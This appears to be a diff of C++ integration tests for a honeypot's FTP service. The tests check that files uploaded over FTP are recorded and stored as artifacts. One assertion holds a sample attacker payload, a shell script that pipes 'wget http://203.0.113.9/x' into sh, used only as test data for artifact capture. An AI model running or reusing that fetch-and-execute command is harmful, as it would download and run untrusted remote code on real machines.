@@ -62,12 +62,9 @@ TEST(CliTelnet, RealClientLoginAndCommandAreStored) {
 
 TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
     const auto dir = make_temp_dir();
-    // The artifact directory is read by the server at upload time; the child inherits it.
-    ::setenv("DECNET_ARTIFACT_DIR", (dir + "/artifacts").c_str(), 1);
     BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "ftp",
                           "--subnet", "127.97.0.0/24", "--db", dir + "/f.db", "--state-dir", dir},
                          dir);
-    ::unsetenv("DECNET_ARTIFACT_DIR");
     ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.97.0.1:21/tcp")) << up.err();
 
     const auto list = capture("timeout 20 curl -s --ftp-pasv ftp://lister:pw1@127.97.0.1/");
@@ -97,6 +94,7 @@ TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
     EXPECT_THAT(uploads[0], HasSubstr(R"("path":"payload.sh")"));
     EXPECT_THAT(uploads[0], HasSubstr(R"("sha256":")" + expected_sha + "\""));
     EXPECT_THAT(uploads[0], HasSubstr(R"("src_ip":"127.0.0.1")"));
+    // Kept by the artifact store under the state directory.
     EXPECT_EQ(read_file(dir + "/artifacts/" + expected_sha),
               "#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n");
 
